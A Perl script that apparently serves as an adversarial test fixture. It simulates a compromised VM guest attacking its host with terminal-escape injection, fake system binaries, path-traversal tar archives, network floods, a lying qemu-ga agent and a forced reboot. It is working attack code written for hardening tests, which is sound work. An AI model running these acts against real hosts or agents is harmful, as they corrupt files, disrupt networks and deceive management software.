#!/usr/bin/perl
# What a guest whose root is an attacker does to its host. `perl hostile.pl ACT` does one act and
# prints "done" when it is under way; what has to last goes on in the background. The same file in
# the place of qemu-ga is an agent that lies.
use strict;
use warnings;
use MIME::Base64;
use Socket;

my $ESCAPES = "\e]52;c;ZXZpbA==\a\e]0;owned\a\e[2J\e[31m\x9b1m";

# The agent is installed as a copy of this file under its name.
my $act = $0 =~ m{qemu-ga$} ? 'agent' : shift @ARGV;

my %acts = (
    names    => \&names,
    sockets  => \&sockets,
    console  => \&console,
    network  => \&network,
    reach    => \&reach,
    archives => \&archives,
    replace  => \&replace_agent,
    agent    => \&agent,
    panic    => \&panic,
);
( $acts{$act} or die "no such act: $act\n" )->(@ARGV);

# -- the shape of things ----------------------------------------------------------------------

# Whatever the host may read of names: processes, mount points, host, users, file systems.
sub names {
    put( '/proc/sys/kernel/hostname', "evil$ESCAPES" );
    put( '/etc/passwd', "\e]0;user\a:x:0:0:$ESCAPES:/root:/bin/sh\n", '>>' );
    for my $place ( "/mnt/\xff\xfe", "/mnt/$ESCAPES", "/mnt/\xc2\xb2\n0 0 0" ) {
        mkdir $place;
        system 'mount', '-t', 'tmpfs', 'tmpfs', $place;
    }
    put( '/usr/bin/df', "#!/bin/sh\nprintf 'F\\nx 1 1 1 \302\262%% /\\nx 1 1 1 \302\262\302\262%% /\\377\\033[2J\\n'\n" );
    put( '/usr/bin/systemctl', "#!/bin/sh\nprintf '\\033]52;c;eA==\\a\\377%0999d' 1\n" );
    chmod 0755, '/usr/bin/df', '/usr/bin/systemctl';
    for my $name ( "\xff\xfe", "\e]0;x\a", ") R 1 1 (" ) {
        background( sub { $0 = "$name -name banger-000000000000"; put( '/proc/self/comm', $name ); sleep 1 while 1 } );
    }
    for my $name ( "\0\xff", "\0/run/x\n00000000: 00000002 00000000 00010000 0001 01 99 forged", "\0$ESCAPES" ) {
        background( sub {
            socket( my $s, AF_UNIX, SOCK_STREAM, 0 );
            bind( $s, pack_sockaddr_un($name) ) and listen( $s, 1 );
            sleep 1 while 1;
        } );
    }
    done();
}

# 1000 TCP and 1000 UDP ports open to all, for SECONDS. Nobody accepts: who connects hears nothing.
sub sockets {
    my ($seconds) = @_;
    for my $part ( 0 .. 3 ) {
        background( sub {
            my @kept;
            for my $port ( map { 20000 + $part * 250 + $_ } 0 .. 249 ) {
                for my $kind ( SOCK_STREAM, SOCK_DGRAM ) {
                    socket( my $s, AF_INET, $kind, 0 ) or last;
                    bind( $s, pack_sockaddr_in( $port, INADDR_ANY ) ) or next;
                    listen( $s, 100 ) if $kind == SOCK_STREAM;
                    push @kept, $s;
                }
            }
            sleep( $seconds || 86400 );
        } );
    }
    sleep 1;
    done();
}

# KIB of escapes, without a newline for long stretches.
sub console {
    my ($kib) = @_;
    open( my $tty, '>:raw', '/dev/ttyS0' ) or die "ttyS0: $!";
    my $piece = substr( ( $ESCAPES . "\xff" x 40 ) x 20, 0, 1023 ) . "\r";
    syswrite( $tty, $piece ) for 1 .. $kib;
    done();
}

# ARP for everybody, questions to the resolver, datagrams to all ports of the host, for SECONDS.
sub network {
    my ( $seconds, $gateway, @devices ) = @_;
    for my $device (@devices) {
        background( sub { flood( $seconds, arp($device) ) } );
    }
    background( sub {
        socket( my $s, AF_INET, SOCK_DGRAM, 0 );
        my $resolver = pack_sockaddr_in( 53, inet_aton($gateway) );
        flood( $seconds, sub {
            my $id = shift;
            my $name = "\x04evil" . chr(9) . sprintf( '%09d', $id ) . "\x03com\0";
            send( $s, pack( 'n6', $id & 0xffff, 0x100, 1, 0, 0, 0 ) . $name . pack( 'n2', 1, 1 ), 0, $resolver );
            send( $s, "\xff" x ( $id % 1400 ), 0, pack_sockaddr_in( 1 + $id % 65535, inet_aton($gateway) ) );
        } );
    } );
    background( sub {    # connections that say nothing
        my @kept;
        flood( $seconds, sub {
            socket( my $s, AF_INET, SOCK_STREAM, 0 ) or return;
            fcntl( $s, 4, 04000 );
            connect( $s, pack_sockaddr_in( 53, inet_aton($gateway) ) );
            push @kept, $s;
            shift @kept if @kept > 200;
        } );
    } );
    done();
}

sub arp {
    my ($device) = @_;
    open( my $file, '<', "/sys/class/net/$device/ifindex" ) or return sub { };
    my $index = 0 + <$file>;
    socket( my $s, 17, SOCK_RAW, unpack( 'S', pack( 'n', 0x806 ) ) ) or die "packet socket: $!";
    my $to = pack( 'S n i S C C a8', 17, 0x806, $index, 1, 0, 6, "\xff" x 6 );
    return sub {
        my $n    = shift;
        my $mac  = pack( 'C N C', 2, $n, 1 );
        my $body = pack( 'n n C C n', 1, 0x800, 6, 4, 1 + $n % 2 ) . $mac . pack( 'N', 0x0a000000 + $n ) . "\0" x 6 . pack( 'N', 0x0a000203 );
        send( $s, "\xff" x 6 . $mac . "\x08\x06" . $body . "\0" x 18, 0, $to );
    };
}

# Prints those of ADDRESS:PORT that answer.
sub reach {
    my @found;
    for my $target (@_) {
        my ( $host, $port ) = split /:/, $target;
        socket( my $s, AF_INET, SOCK_STREAM, 0 );
        local $SIG{ALRM} = sub { die "late\n" };
        my $answered = eval {
            alarm 1;
            connect( $s, pack_sockaddr_in( $port, inet_aton($host) ) ) or die "$!\n";
            send( $s, "GET / HTTP/1.0\r\n\r\n", 0 );
            sysread( $s, my $answer, 100 );
        };
        alarm 0;
        push @found, $target if $answered;
    }
    print "@found\n";
}

# -- answers that lie -------------------------------------------------------------------------

# Every program that a copy could be served by sends an archive that wants out of its directory.
sub archives {
    my ($outside) = @_;
    put( '/root/stream', join '', hostile_members($outside) );
    for my $program ( '/usr/bin/tar', '/usr/bin/scp', '/usr/lib/openssh/sftp-server' ) {
        unlink $program;
        put( $program, "#!/bin/sh\nprintf '%s' '$ESCAPES' >&2; exec cat /root/stream\n" );
        chmod 0755, $program;
    }
    done();
}

sub hostile_members {
    my ($outside) = @_;
    return (
        member( "../escaped",         '0', 'x' ),
        member( "thing/../../escaped", '0', 'x' ),
        member( "$outside/absolute",  '0', 'x' ),
        member( "thing/link",         '2', '', $outside ),
        member( "thing/link/through", '0', 'x' ),
        member( "link",               '2', '', $outside ),
        member( "link/through",       '0', 'x' ),
        member( "hard",               '1', '', '/etc/passwd' ),
        member( "thing/hard",         '1', '', '../../../../../../etc/passwd' ),
        member( "thing/node",         '3', '' ),
        member( "node",               '4', '' ),
        member( "pipe",               '6', '' ),
        member( "setuid",             '0', 'x', '', '0006755' ),
        member( "$ESCAPES\xff",       '0', 'x' ),
        "\xff" x 5000,
    );
}

# One member of a ustar archive (POSIX.1-1988).
sub member {
    my ( $name, $type, $content, $link, $mode ) = @_;
    my $head = pack( 'a100 a8 a8 a8 a12 a12 A8 a1 a100 a6 a2 a32 a32 a8 a8 a155 x12',
        $name, $mode || '0000644', '0000000', '0000000', sprintf( '%011o', length $content ),
        '00000000000', ' ' x 8, $type, $link || '', 'ustar', '00', 'root', 'root', '0000001', '0000003', '' );
    substr( $head, 148, 8 ) = sprintf( "%06o\0 ", unpack( '%32C*', $head ) );
    return $head . $content . "\0" x ( -length($content) % 512 );
}

# This file in the agent's place: whoever starts the agent again starts this.
sub replace_agent {
    open( my $file, '<:raw', '/root/hostile.pl' );
    my $source = join '', <$file>;
    unlink '/usr/sbin/qemu-ga';
    put( '/usr/sbin/qemu-ga', $source );
    chmod 0755, '/usr/sbin/qemu-ga';
    put( '/run/mode', $_[0] );
    background( sub { exec '/usr/sbin/qemu-ga' } );
    for ( 1 .. 100 ) {
        for my $directory ( glob '/proc/[0-9]*' ) {
            my $exe = readlink("$directory/exe") || '';
            kill 9, $directory =~ /(\d+)$/ if $exe =~ m{^/usr/sbin/qemu-ga};
        }
        last if -e '/run/lying';
        select undef, undef, undef, 0.1;
    }
    done();
}

sub agent {
    my ($path) = glob '/dev/vport*';
    my $port;
    select undef, undef, undef, 0.05 until open( $port, '+<:raw', $path );
    put( '/run/lying', '1' );
    my $count = 0;
    my $table = join '', map { row($_) } 0 .. 6000;
    while ( my $request = read_line($port) ) {
        my ($mode) = get('/run/mode') =~ /(\w+)/;
        $mode = (qw(table nonsense lines huge nested table))[ $count++ % 6 ] if $mode eq 'each';
        my ($id) = $request =~ /"id": ?(\d+)/;
        if ( $mode eq 'mute' ) { next }
        if ( $mode eq 'endless' ) { syswrite( $port, "\n" x 65536 ) while get('/run/mode') =~ /endless/; next }
        if ( defined $id ) { say_to( $port, "\xff{\"return\": $id}\n" ) }
        elsif ( $mode eq 'lines' )  { say_to( $port, "\n" x 2_000_000 ) }
        elsif ( $mode eq 'huge' )   { say_to( $port, 'x' x ( 9 << 20 ) . "\n" ) }
        elsif ( $mode eq 'nested' ) { say_to( $port, '{"return": ' . '[' x 500_000 . "\n" ) }
        elsif ( $mode eq 'nonsense' ) { say_to( $port, nonsense( $count++ ) ) }
        elsif ( $request =~ /guest-file-open/ ) { say_to( $port, "{\"return\": 7}\n" ) }
        elsif ( $request =~ /guest-file-seek/ ) { say_to( $port, "{\"return\": {\"position\": 0, \"eof\": false}}\n" ) }
        elsif ( $request =~ /guest-file-read/ ) { say_to( $port, '{"return": {"eof": false, "buf-b64": "' . encode_base64( $table, '' ) . "\"}}\n" ) }
        elsif ( $request =~ /guest-exec-status/ ) {
            say_to( $port, '{"return": {"exited": true, "exitcode": 0, "out-data": "' . encode_base64( "F\nx 1 1 1 \xc2\xb2% /\nx 1 1 1 9% /\xff\e[2J\n$ESCAPES", '' ) . "\"}}\n" );
        }
        elsif ( $request =~ /guest-exec/ ) { say_to( $port, "{\"return\": {\"pid\": 1}}\n" ) }
        else { say_to( $port, "{\"return\": {}}\n" ) }
    }
}

sub nonsense {
    my @said = (
        "\xff\xfe\n", "{\n", "[]\n", "null\n", "{\"return\": 1e999}\n", "{\"return\": " . '9' x 5000 . "}\n",
        "{\"error\": {\"desc\": \"\\u001b]52;c;eA==\\u0007No such file \\ud800" . "\x9b" x 5000 . "\"}}\n",
        "{\"return\": {\"pid\": -1, \"exited\": \"\\u00b2\", \"eof\": true, \"buf-b64\": \"\xc2\xb2\"}}\n",
        "{\"return\": [{\"name\": \"\\u001b[2J\", \"statistics\": {\"rx-bytes\": -1, \"tx-bytes\": 1e30}}]}\n",
    );
    return $said[ $_[0] % @said ];
}

# A row of /proc/net/tcp that says a port is open; of 6000 different ones.
sub row {
    my ($n) = @_;
    return sprintf "%4d: 00000000:%04X 00000000:0000 %s 00000000:00000000 00:00000000 00000000     0        0 %d 1\n",
        $n, 1024 + $n * 9, $n % 2 ? '0A' : '07', $n;
}

# -- the end ----------------------------------------------------------------------------------

# Last words that look like a panic's, 12 KB that are 36 KB of text, then a reset.
sub panic {
    open( my $tty, '>:raw', '/dev/ttyS0' ) or die "ttyS0: $!";
    syswrite( $tty, "\nKernel panic - $ESCAPES" . "\xff" x 12_000 );
    close $tty;
    put( '/proc/sysrq-trigger', 'b' );
}

# -- small things -----------------------------------------------------------------------------

sub done { local $| = 1; print "done\n" }

sub put {
    my ( $path, $content, $mode ) = @_;
    open( my $file, ( $mode || '>' ) . ':raw', $path ) or return;
    print $file $content;
}

sub get { open( my $file, '<', $_[0] ) or return 'mute'; return scalar <$file> }

sub background {
    my ($work) = @_;
    return if fork;
    open( STDIN, '<', '/dev/null' );
    open( STDOUT, '>', '/dev/null' );
    open( STDERR, '>', '/dev/null' );
    syscall(112);    # setsid(2)
    $work->();
    exit 0;
}

sub flood {
    my ( $seconds, $once ) = @_;
    my $end = time + $seconds;
    my $n   = 0;
    while ( time < $end ) { $once->( $n++ ) for 1 .. 100 }
}

sub read_line {
    my ($port) = @_;
    my $line = '';
    while (1) {
        my $got = sysread( $port, my $byte, 1 );
        if ( !$got ) { select undef, undef, undef, 0.02; next }    # nobody is connected
        $line .= $byte;
        return $line if $byte eq "\n";
    }
}

sub say_to {
    my ( $port, $words ) = @_;
    my $at = 0;
    while ( $at < length $words ) {
        my $sent = syswrite( $port, $words, 65536, $at );
        return unless $sent;
        $at += $sent;
    }
}
